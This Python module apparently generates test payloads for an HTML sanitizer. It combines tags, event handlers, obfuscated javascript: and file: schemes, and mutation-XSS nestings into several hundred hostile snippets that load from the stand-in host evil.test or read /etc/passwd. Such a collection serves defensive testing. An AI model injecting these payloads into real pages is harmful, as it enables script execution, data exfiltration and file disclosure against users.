"""Hostile markup made of a grammar: tags x attributes x addresses x disguises x surroundings.

``payloads(web, local)`` gives several hundred; each is a piece of HTML that loads, runs or leads somewhere in one
reader or another, with the word KEPT where its text must still be seen. ``web`` is the address of a server that must
hear nothing, ``local`` of a file that nobody may read.
"""

# ruff: noqa: E501
from __future__ import annotations

import base64
from itertools import chain, cycle
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SCRIPT = "alert(1)"

_LOADING = (
    *("<img src={u}>", "<img srcset={u},{u}>", "<img src=x srcset={u}>", "<img lowsrc={u}>", "<img dynsrc={u}>"),
    *("<image src={u}>", "<image href={u}>", "<input type=image src={u}>", "<input formaction={u} type=submit>"),
    *("<iframe src={u}></iframe>", "<frameset><frame src={u}></frameset>", "<frame src={u}>", "<embed src={u}>"),
    *("<object data={u}></object>", "<object classid={u}></object>", "<object codebase={u} data=x></object>"),
    *("<applet code=x codebase={u}></applet>", "<applet archive={u}></applet>", "<portal src={u}></portal>"),
    *("<video src={u}></video>", "<video poster={u}></video>", "<audio src={u} autoplay></audio>"),
    *("<video><source src={u}></video>", "<picture><source srcset={u}><img></picture>", "<bgsound src={u}>"),
    *("<video><track default src={u}></video>", "<link rel=stylesheet href={u}>", "<link rel=icon href={u}>"),
    *("<link rel=preload as=image href={u}>", "<link rel=prefetch href={u}>", "<link rel=dns-prefetch href={u}>"),
    *("<link rel=preconnect href={u}>", "<link rel=manifest href={u}>", "<link rel=import href={u}>"),
    *("<link rel=modulepreload href={u}>", "<link rel=prerender href={u}>", "<link rel=pingback href={u}>"),
    *("<script src={u}></script>", "<script type=module src={u}></script>", "<script async defer src={u}></script>"),
    *("<body background={u}>", "<table background={u}><tr><td>", "<td background={u}>", "<base href={u}>"),
    *("<meta http-equiv=refresh content='0;url={r}'>", "<meta http-equiv=refresh content=0;{u}>"),
    *("<meta http-equiv=set-cookie content=x>", "<meta property=og:image content={u}>", "<html manifest={u}>"),
    *("<form action={u}><button>", "<button formaction={u}>", "<isindex action={u}>", "<menuitem icon={u}>"),
    *("<a href={u} ping={u}>", "<area shape=default href={u}>", "<map><area href={u}></map>", "<blockquote cite={u}>"),
    *("<q cite={u}>", "<ins cite={u}>", "<del cite={u}>", "<img longdesc={u}>", "<img usemap={u}>", "<head profile={u}>"),
    *("<svg><image href={u} /></svg>", "<svg><image xlink:href={u} /></svg>", "<svg><use href={u} /></svg>"),
    *("<svg><feImage href={u} /></svg>", "<svg><a xlink:href={u}><text>x</text></a></svg>", "<svg><script href={u} /></svg>"),
    *("<svg><set attributeName=href to={u} /></svg>", "<svg><animate attributeName=href values={u} /></svg>"),
    *("<svg><rect fill=url({r}) /></svg>", "<svg><text filter=url({r})>x</text></svg>", "<svg><style>@import {u}</style></svg>"),
    *("<math href={u}><mi>x</mi></math>", "<math><maction actiontype=statusline xlink:href={u}>x</maction></math>"),
    *("<math><annotation-xml encoding=text/html><img src={u}></annotation-xml></math>", "<math><mglyph src={u} /></math>"),
    *("<template><img src={u}></template>", "<noscript><img src={u}></noscript>", "<select><option><img src={u}></select>"),
    *("<noembed><img src={u}></noembed>", "<noframes><img src={u}></noframes>", "<xmp><img src={u}></xmp>"),
    *("<textarea><img src={u}></textarea>", "<title><img src={u}></title>", "<style><img src={u}></style>"),
    *("<details open ontoggle=fetch({q})>", "<dialog open><img src={u}></dialog>", "<slot><img src={u}></slot>"),
    *("<iframe srcdoc='<img src={r}>'></iframe>", "<object data='data:text/html,<img src={r}>'></object>"),
    *("<p style=\"background:url({r})\">", "<p style=\"background-image:image-set('{r}' 1x)\">", "<p style='cursor:url({r}),auto'>"),
    *("<p style='list-style:url({r})'>", "<p style='border-image-source:url({r})'>", "<p style='content:url({r})'>"),
    *("<p style='behavior:url({r})'>", "<p style='-moz-binding:url({r})'>", "<p style='src:url({r});font-family:x'>"),
    *("<p style='mask-image:url({r})'>", "<p style='shape-outside:url({r})'>", "<p style='--x:url({r});background:var(--x)'>"),
    *("<style>@import url({r});</style>", "<style>@import {u};</style>", "<style>p{{background:url({r})}}</style>"),
    *("<style>@font-face{{font-family:x;src:url({r})}}p{{font-family:x}}</style>", "<style>p::after{{content:url({r})}}</style>"),
    *("<style>@namespace x url({r});</style>", "<style media=print>p{{background:url({r})}}</style>"),
    *("<style>p{{background:u\\72l({r})}}</style>", "<style><!--p{{background:url({r})}}--></style>"),
    *("<!--[if IE]><img src={u}><![endif]-->", "<?xml-stylesheet href={u}?>", "<!DOCTYPE x SYSTEM {u}>"),
    *("<!DOCTYPE x [<!ENTITY e SYSTEM {u}>]>&e;", "<xml src={u}></xml>", "<layer src={u}></layer>", "<ilayer src={u}></ilayer>"),
    *("<img/src={u}/onerror=fetch({q})>", "<div><img src={u}</div>", "<img alt='>' src={u}>", "<img\nsrc\n=\n{u}>"),
    *("<img\tsrc={u}\t>", "<img\x0csrc={u}>", "<IMG SRC={u}>", "<iMg sRc={u}>", "<img src={u} src=x>", "<img x src={u}"),
    *("<b><img src={u}</b>", "<a><a href={u}>", "<p><svg><p><img src={u}>", "<table><img src={u}></table>"),
)  # fmt: skip
_HANDLERS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontransitionend"),
    *("onpointerenter", "onwheel", "onscroll", "ontoggle", "onbegin", "onend", "onrepeat", "onloadstart", "oncanplay"),
    *(
        "onhashchange",
        "onpageshow",
        "onmessage",
        "onbeforeprint",
        "onsearch",
        "oncut",
        "onpaste",
        "ondrag",
        "onkeydown",
    ),
)
_BEARERS = (
    *(
        "p",
        "b",
        "div",
        "span",
        "a",
        "td",
        "li",
        "h2",
        "img",
        "svg",
        "math",
        "body",
        "video",
        "input",
        "details",
        "marquee",
    ),
    *("button", "iframe", "object", "form", "custom-tag", "blockquote", "table", "style"),
)
_SEPARATORS = (" ", "/", "\n", "\t", "\x0c", "\r\n", " / ", "/x/", " a=b ", "  \x0b")
_VALUES = ("{s}", "'{s}'", '"{s}"', "`{s}`", "&#97;lert(1)", "'\n{s}'", "javascript:{s}", "eval(atob('{b}'))")
_SCHEMES = (
    *(
        "javascript:{s}",
        "JAVASCRIPT:{s}",
        "JavaScript:{s}",
        "javascript&colon;{s}",
        "java\tscript:{s}",
        "java\nscript:{s}",
    ),
    *("java\rscript:{s}", "&#106;avascript:{s}", "&#x6a;avascript:{s}", "&#0000106avascript:{s}", "\x01javascript:{s}"),
    *("\x1fjavascript:{s}", " javascript:{s}", "&nbsp;javascript:{s}", "&Tab;javascript:{s}", "java&Tab;script:{s}"),
    *("java&NewLine;script:{s}", "\u00adjavascript:{s}", "\u200bjavascript:{s}", "\ufeffjavascript:{s}"),
    *("javascript://{h}/%0a{s}", "javascript:/*--></script>*/{s}", "vbscript:msgbox(1)", "livescript:{s}", "mocha:{s}"),
    *("data:text/html,<script>{s}</script>", "data:text/html;base64,{b}", "data:image/svg+xml,<svg onload={s}>"),
    *("DATA:text/html,x", "data&colon;text/html,x", "blob:{r}", "filesystem:{r}", "about:blank", "view-source:{r}"),
    *("file://{f}", "FILE://{f}", "file:{f}", "file://localhost{f}", "file:////{h}/share/x", "{f}", "../../..{f}"),
    *(
        "smb://{h}/share",
        "\\\\{h}\\share",
        "//{h}/x",
        "///{h}/x",
        "/\\{h}/x",
        "\\/{h}/x",
        "cifs://{h}/s",
        "nfs://{h}/s",
    ),
    *("afp://{h}/s", "webdav://{h}/s", "dav://{h}/s", "sftp://{h}/s", "ssh://{h}", "telnet://{h}", "ftp://{h}/x"),
    *(
        "gopher://{h}/x",
        "ldap://{h}/x",
        "ms-word:ofe|u|{r}",
        "ms-excel:ofv|u|{r}",
        "ms-msdt:/id x",
        "search-ms:query=x",
    ),
    *(
        "search:query=x",
        "ms-officecmd:{{}}",
        "ms-settings:",
        "shell:startup",
        "jar:{r}!/x",
        "res://x/y",
        "mk:@MSITStore:x",
    ),
    *("intent://{h}#Intent;end", "itms-services:?x={r}", "steam://run/1", "tel:1", "sms:1", "facetime:1", "callto:x"),
    *(
        "chrome://settings",
        "resource://x",
        "moz-extension://x",
        "vnd.x:y",
        "x-apple:y",
        "magnet:?x",
        "bitcoin:x",
        "mailto",
    ),
    *(
        "http:{h}",
        "http:/{h}",
        "http:\\\\{h}",
        "ht\ntp://{h}",
        "https:{h}",
        "?x",
        "#x",
        "",
        "http://",
        "https:///x",
        "x:y",
    ),
)
_MUTATIONS = (
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={r} onerror={s}&gt;'>",),
    *("<svg></p><style><a id='</style><img src={r} onerror={s}>'>", "<svg><p><style><g title='</style><img src={r}>'>"),
    *("<noscript><p title='</noscript><img src={r} onerror={s}>'>", "<form><math><mtext></form><form><mglyph><style></math><img src={r}>"),
    *("<math><mi><table><mglyph><svg><mtext><style><path id='</style><img src={r}>'>", "<xmp><p title='</xmp><img src={r}>'>"),
    *("<svg><desc><noembed><style></noembed><img src={r}></style>", "<listing>&lt;img src={r}&gt;</listing>"),
    *("<select><template><style><!--</style><a rel='--></style><img src={r}>'>", "<plaintext><img src={r}>"),
    *("<svg><foreignobject><iframe><img src={r}></iframe>", "<math><annotation-xml encoding='application/xhtml+xml'><style><img src={r}>"),
    *("<a title='<a href=javascript:{s}>'>", "<img alt='`><img src={r}>'>", "<p id='\"><img src={r}>'>", "<style>*{{x:</style><img src={r}>}}"),
    *("<![CDATA[<img src={r}>]]>", "<!-- --!><img src={r}> -->", "<!--><img src={r}>-->", "<!--- ><img src={r}>--->", "<!x><img src={r}>"),
    *("<?php ><img src={r}> ?>", "<%<img src={r}>%>", "</p<img src={r}>", "<//img src={r}>", "<\x00img src={r}>", "<i\x00mg src={r}>"),
    *("<scr<script>ipt>{s}</scr</script>ipt>", "<<img src={r}>>", "<img <img src={r}>", "<img src='{r}' / / / onerror={s}>"),
    *("+ADw-img src={r}+AD4-", "&lt;img src={r}&gt;", "&amp;lt;script&amp;gt;", "%3Cimg src={r}%3E", "\uff1cimg src={r}\uff1e"),
    *("<table><tr><td><math><mtext><table><mglyph><style><img src={r}>", "<frameset onload={s}><noframes><img src={r}></frameset>"),
    *("<ruby><rtc><img src={r}></rtc></ruby>", "<svg><title><img src={r}></title></svg>", "<svg><metadata><img src={r}></metadata></svg>"),
)  # fmt: skip
_SWALLOWS = (
    *(
        "<img x src",
        "<math><mtext><table>",
        "<form><math>",
        "<math><mi><table>",
        "<svg><desc><noembed>",
        "<select><temp",
    ),
    *("<math><annotation-xml encoding='app", "<table><tr><td><math>", "<frameset onload"),
)
_SURROUNDINGS: tuple[tuple[str, str], ...] = (
    *(("", ""), ("<div>", "</div>"), ("<ul><li>", "</li></ul>"), ("<blockquote>", "</blockquote>")),
    *(("<table><tr><td>", "</td></tr></table>"), ("<h2>", "</h2>"), ("<em><strong>", "</strong></em>")),
    *(("<section><article>", "</article></section>"), ("<p dir=rtl>", "</p>"), ("<font color=red>", "</font>")),
    *(("<center><small>", "</small></center>"), ("<dl><dd>", "</dd></dl>"), ("<unknown>", "</unknown>")),
)


def payloads(web: str = "http://evil.test:80", local: str = "/etc/passwd") -> list[str]:
    """Return the payloads, the same for the same addresses, each once."""
    fill = _filler(web, local)
    around = cycle(_SURROUNDINGS)
    made = []
    for body in chain(_loads(web, local), _handlers(), _links(), _MUTATIONS):
        before, after = next(around)
        # What a browser swallows to the end of the page (an unclosed style, a tag that never ends) hides the rest.
        rest = "" if body.startswith(_SWALLOWS) else " KEPT after"
        made.append(f"{before}<p>KEPT before</p>{fill(body)}{rest}{after}")
    return list(dict.fromkeys(made))


def _filler(web: str, local: str) -> Callable[[str], str]:
    host = web.partition("://")[2]
    encoded = base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode()

    def fill(body: str) -> str:
        return body.format(s=SCRIPT, b=encoded, h=host, f=local, r=f"{web}/r", u=f"'{web}/u'", q=f"'{web}/q'")

    return fill


def _loads(web: str, local: str) -> Iterator[str]:
    """Every loading form from the web, and from the disk by one of several names."""
    names = cycle((f"file://{local}", local, f"FILE:{local}", f"//{web.partition('://')[2]}/x", f"{web}/x y"))
    for form in _LOADING:
        yield form
        yield form.replace("{u}", f"'{next(names)}'").replace("{r}", next(names))


def _handlers() -> Iterator[str]:
    closed = ("style", "iframe", "object")
    bearers, separators, values = cycle(_BEARERS), cycle(_SEPARATORS), cycle(_VALUES)
    for handler in (*_HANDLERS, *_HANDLERS, *(one.upper() for one in _HANDLERS)):
        tag = next(bearers)
        yield f"<{tag}{next(separators)}{handler}={next(values)}>" + (f"</{tag}>" if tag in closed else "")


def _links() -> Iterator[str]:
    quotes = cycle("\"'")
    tags = cycle(("a href", "a xlink:href", "area href", "a href", "form action", "a href"))
    for scheme in _SCHEMES:
        quote = next(quotes)
        tag = next(tags)
        yield f"<{tag}={quote}{scheme.replace(quote, '')}{quote}>KEPT inside</{tag.split()[0]}>"
